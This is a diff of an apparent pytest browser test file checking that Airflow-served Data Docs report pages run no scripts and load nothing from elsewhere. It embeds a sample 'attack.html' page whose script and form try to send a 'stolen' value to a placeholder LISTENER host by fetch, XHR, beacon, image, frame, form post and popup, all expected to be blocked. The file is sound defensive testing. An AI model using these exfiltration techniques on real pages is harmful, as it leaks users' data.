@@ -1,11 +1,14 @@
 """Report pages cannot call out, and Data Docs render offline: headless Chromium, logged in to an Airflow api-server.
 
 Over a run whose reports are real Data Docs (:func:`~tests.orchestration.report_runs.data_docs_batch`)
-plus ``attack.html``, a report file whose script tries every way out the brief names: fetch and
-XHR to a loopback listener and to Airflow's API (absolute and relative), a beacon, an image, a form
-posted to the listener, ``window.open``. The browser resolves no host but loopback, so a page that
-still named a CDN would log a failed load. A second api-server serves below ``/airflow`` (``[api]
-base_url`` with a path): the run's report tab, the batches page and their links stay below it.
+plus ``attack.html``, a report file that tries every way out the brief names. Its script (fetch and
+XHR to a listener on another loopback host and to Airflow's API, absolute and relative, a beacon,
+an image, a form posted to the listener, ``window.open``) does not run; run anyway, through the
+WebDriver, as if it had, every request of it is refused all the same. What needs no script (an
+image, a style sheet, a frame, a form's button, a ``target=_blank`` link, clicked as a reader would)
+reaches nothing either. The browser resolves no host but loopback, so a page that still named a CDN
+would log a failed load. A second api-server serves below ``/airflow`` (``[api] base_url`` with a
+path): the run's report tab, the batches page and their links stay below it.
 """
 
 from __future__ import annotations
@@ -15,22 +18,19 @@ import time
 import pytest
 
 from .browser import api_server, chromium, open_report_tab, sign_in
-from .report_runs import DOCS_INDEX, data_docs_batch, listening, register_run, sync_dags
+from .report_runs import DOCS_INDEX, SCRIPT_BLOCKED, STYLED, data_docs_batch, listening, register_run, sync_dags
 
 # On the worker of the test run's server, whose browser tests (review, sandbox, viewer) already start the session's
 # api-server: one api-server start less.
 pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.xdist_group("vllm_server")]
 DAG_ID, RUN_ID, BATCH_ID = "rollout_batch", "manual__report-offline", "report-offline-batch"
-ATTACK = """<!doctype html><title>attack</title>
-<form id="form" method="post" action="LISTENER/form"><input name="stolen" value="1"></form>
-<script>
+ATTACK_SCRIPT = """
 const outcome = (promise) => promise.then((r) => "status " + r.status, (e) => e.name);
-const xhr = (url) => new Promise((done) => {
+const xhr = (url) => {  // synchronous: where scripting is off, no event handler of a request would run
   const request = new XMLHttpRequest();
-  request.onload = () => done("status " + request.status);
-  request.onerror = () => done("error");
-  try { request.open("GET", url); request.send(); } catch (e) { done(e.name); }
-});
+  try { request.open("GET", url, false); request.send(); } catch (e) { return e.name; }
+  return "status " + request.status;
+};
 const seen = {origin: self.origin};
 navigator.sendBeacon("LISTENER/beacon", "x");  // queued (true), then refused: only the listener can tell
 try { seen.open = String(window.open("LISTENER/open")); } catch (e) { seen.open = e.name; }
@@ -44,30 +44,22 @@ Promise.all([
 ]).then(([fetchOut, fetchApi, fetchRelative, xhrOut, xhrApi]) => {
   window.SEEN = Object.assign(seen, {fetchOut, fetchApi, fetchRelative, xhrOut, xhrApi});
 });
-</script>
 """
-# What the attack page saw: an opaque origin where every request failed and no window opened.
+ATTACK = f"""<!doctype html><title>attack</title>
+<link rel="stylesheet" href="LISTENER/style"><img src="LISTENER/img"><iframe src="LISTENER/frame"></iframe>
+<form id="form" method="post" action="LISTENER/form"><input name="stolen" value="1"><button id="post">post</button>
+</form><a id="popup" href="LISTENER/popup" target="_blank">open</a>
+<script>{ATTACK_SCRIPT}</script>
+"""
+# What the attack script saw when the WebDriver ran it: every request refused, no window opened.
 BLOCKED = {
-    "origin": "null",
     "open": "null",
     "fetchOut": "TypeError",
     "fetchApi": "TypeError",
     "fetchRelative": "TypeError",
-    "xhrOut": "error",
-    "xhrApi": "error",
+    "xhrOut": "NetworkError",
+    "xhrApi": "NetworkError",
 }
-STYLED = """
-const icon = document.querySelector('.fas, .fa');
-return {
-  jquery: typeof window.jQuery, table: typeof (window.jQuery && jQuery.fn.bootstrapTable),
-  font: getComputedStyle(document.body).fontFamily,
-  navbar: getComputedStyle(document.querySelector('nav.navbar')).display,
-  container: getComputedStyle(document.querySelector('.container-fluid')).paddingLeft,
-  iconFont: icon && getComputedStyle(icon, '::before').fontFamily,
-  iconLoaded: document.fonts.check('900 16px "Font Awesome 6 Free"'),
-  loaded: performance.getEntriesByType('resource').map((entry) => entry.name),
-};
-"""
 
 
 @pytest.fixture(scope="module")
@@ -88,49 +80,47 @@ def offline_run(airflow_db, api_server_url, listener, tmp_path_factory) -> str:
 
 
 def problems(browser) -> list[str]:
-    """What the console logged at SEVERE since the last call: failed loads, blocked requests, script errors."""
-    return [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
+    """What the console logged at SEVERE since the last call but scripts the sandbox blocked: failed loads, refusals."""
+    logged = [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
+    return [message for message in logged if SCRIPT_BLOCKED not in message]
 
 
-def clicked(by: str, selector: str):
-    """A wait condition: the first element found is clicked (again, while the table is still being drawn)."""
-    from selenium.common.exceptions import ElementNotInteractableException, StaleElementReferenceException
-
-    def click(browser) -> bool:
-        try:
-            found = browser.find_elements(by, selector)
-            return bool(found) and found[0].click() is None
-        except (StaleElementReferenceException, ElementNotInteractableException):
-            return False
-
-    return click
-
-
-def test_a_report_script_cannot_fetch_post_or_open_a_window(offline_run, api_server_url, listener):
+def test_a_report_runs_no_script_and_neither_it_nor_a_reader_can_send_anything_out(
+    offline_run, api_server_url, listener
+):
+    from selenium.webdriver.common.by import By
     from selenium.webdriver.support.ui import WebDriverWait
 
     browser = chromium()
     wait = WebDriverWait(browser, 60)
     try:
         sign_in(browser, api_server_url)
-        browser.get(offline_run + "attack.html")
-        assert wait.until(lambda b: b.execute_script("return window.SEEN")) == BLOCKED
-        page = browser.current_url
-        assert "/signed/" in page
+        page = offline_run + "attack.html"
+        browser.get(page)
+        wait.until(lambda b: b.execute_script("return document.readyState") == "complete")
+        assert browser.execute_script("return typeof window.SEEN") == "undefined"  # its script did not run
+        browser.find_element(By.ID, "post").click()  # what a reader can do without a script
+        browser.find_element(By.ID, "popup").click()
+        browser.execute_script(ATTACK_SCRIPT.replace("LISTENER", listener.url).replace("API", api_server_url))
+        seen = wait.until(lambda b: b.execute_script("return window.SEEN"))  # as if it had run
+        assert seen == {**BLOCKED, "origin": api_server_url}  # Airflow's origin, and still nothing reaches it
         browser.execute_script("document.getElementById('form').submit()")
         browser.execute_script("document.getElementById('form').requestSubmit()")
         time.sleep(2)
         assert browser.current_url == page and len(browser.window_handles) == 1  # no post, no window
-        assert browser.execute_script("return window.SEEN.origin") == "null"  # still the same document
+        assert browser.execute_script("return window.SEEN") == seen  # still the same document
         logged = " ".join(problems(browser))
-        assert "Content Security Policy" in logged and "allow-forms" in logged  # blocked, not failed
+        for refusal in ("Content Security Policy", "allow-forms", "allow-popups"):
+            assert refusal in logged, refusal  # blocked, not failed
     finally:
         browser.quit()
     time.sleep(1)
-    assert listener.heard == []  # nothing left the page: no fetch, XHR, beacon, image, form or window
+    assert listener.heard == []  # no fetch, XHR, beacon, image, style sheet, frame, form or window left the page
 
 
-def test_data_docs_render_with_their_vendored_styles_and_load_nothing_from_elsewhere(offline_run, api_server_url):
+def test_data_docs_render_without_scripts_with_their_vendored_styles_and_load_nothing_from_elsewhere(
+    offline_run, api_server_url
+):
     from selenium.webdriver.common.by import By
     from selenium.webdriver.support.ui import WebDriverWait
 
@@ -139,23 +129,24 @@ def test_data_docs_render_with_their_vendored_styles_and_load_nothing_from_elsew
     try:
         sign_in(browser, api_server_url)
         problems(browser)
-        browser.get(offline_run + DOCS_INDEX)
-        # the index's lists are drawn by the vendored bootstrap-table: a suite's link, a validation's row
-        wait.until(clicked(By.CSS_SELECTOR, "table a[href*='expectations/']"))
-        wait.until(lambda b: b.current_url.endswith("/lineage/run-000/expectations/lineage/calls.html"))
+        browser.get(offline_run)
+        browser.find_element(By.LINK_TEXT, "lineage Data Docs").click()
+        wait.until(lambda b: b.current_url == offline_run + DOCS_INDEX)
         browser.back()
-        wait.until(clicked(By.XPATH, "//td[normalize-space()='run-000']"))
+        wait.until(lambda b: b.find_elements(By.LINK_TEXT, "calls")).pop().click()  # the overview's link to results
         wait.until(lambda b: "/lineage/run-000/validations/lineage/calls/run-000/" in b.current_url)
         wait.until(lambda b: b.execute_script("return document.fonts.status") == "loaded")
         styled = browser.execute_script(STYLED)
-        assert (styled["jquery"], styled["table"]) == ("function", "function")
+        assert styled["jquery"] == "undefined"  # GX's scripts did not run
+        assert "unique_calls [warn]" in styled["text"] and "c2" in styled["text"]  # the result, its offending value
         assert styled["font"].startswith("-apple-system")  # Bootstrap's reboot, not the browser's serif
         assert (styled["navbar"], styled["container"]) == ("flex", "48px")  # Bootstrap's .navbar; GX's pl-5
         assert "Font Awesome 6 Free" in styled["iconFont"] and styled["iconLoaded"]  # the failed-check icon
+        assert styled["logo"] > 0  # GX's logo, an image of the site
         origin = api_server_url + "/"
-        assert len(styled["loaded"]) >= 10 and all(name.startswith(origin) for name in styled["loaded"])
+        assert len(styled["loaded"]) >= 5 and all(name.startswith(origin) for name in styled["loaded"])
         assert any("/static/vendor/bootstrap/bootstrap.min.css" in name for name in styled["loaded"])
-        assert problems(browser) == []  # no failed load, no blocked request, no script error on any page
+        assert problems(browser) == []  # no failed load and no refused request on any page: only scripts blocked
     finally:
         browser.quit()
 
@@ -181,7 +172,8 @@ def test_reports_and_the_batches_page_stay_below_the_api_servers_base_path(airfl
         wait.until(lambda b: b.find_elements(By.PARTIAL_LINK_TEXT, "Data Docs")).pop().click()
         wait.until(lambda b: b.execute_script("return location.pathname").endswith(DOCS_INDEX))
         assert browser.execute_script("return location.pathname").startswith("/airflow/rollout-ledger/")
-        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, "table a[href*='expectations/']"))  # scripts ran
+        logo = "return document.querySelector('img[src$=\"logo-long.png\"]').naturalWidth"
+        wait.until(lambda b: b.execute_script(logo) > 0)  # an image below the page, read below /airflow
         browser.switch_to.default_content()
 
         browser.get(f"{url}/plugin/rollout-batches")
